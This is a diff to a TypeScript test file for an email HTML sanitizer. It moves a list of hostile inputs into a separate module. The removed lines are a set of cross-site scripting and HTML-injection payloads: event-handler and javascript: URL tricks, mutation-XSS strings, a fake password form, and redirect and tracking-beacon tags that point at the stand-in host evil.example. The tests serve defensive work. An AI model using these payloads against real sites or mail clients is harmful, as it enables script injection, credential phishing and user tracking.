@@ -2,47 +2,7 @@ import fc from 'fast-check';
 import { Parser } from 'htmlparser2';
 import { describe, expect, it } from 'vitest';
 import { sanitizeMailHtml } from '../../../src/connectors/email/sanitize.ts';
-
-const HOSTILE = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)><animate onbegin=alert(1)></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:x">x</a>',
-  '<a href="//evil.example/">x</a>',
-  '<a href="/api/v1/delete">x</a>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="x.swf"></object><embed src="x.swf">',
-  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t.gif)}</style>',
-  '<div style="background-image:url(https://evil.example/t.gif)">x</div>',
-  '<div style="background:url(&quot;https://evil.example/t.gif&quot;)">x</div>',
-  '<div style="color:\\75 rl(https://evil.example)">x</div>',
-  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">phish</div>',
-  '<div style="margin-top:-500px">over</div>',
-  '<div style="width:expression(alert(1))">x</div>',
-  '<td background="https://evil.example/t.gif">x</td>',
-  '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video>',
-  '<img srcset="https://evil.example/a 1x" src="https://evil.example/t.gif">',
-  '<img src="https://evil.example/t.gif" data-src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
-  '<p id="__proto__" name="constructor" class="x">x</p>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<template><script>alert(1)</script></template>',
-  '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
-  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
-  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
-  '<img """><script>alert(1)</script>">',
-  '<<script>alert(1);//<</script>',
-];
+import { HOSTILE } from './hostile.ts';
 
 const HARMLESS = new Set(
   'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul wbr'.split(
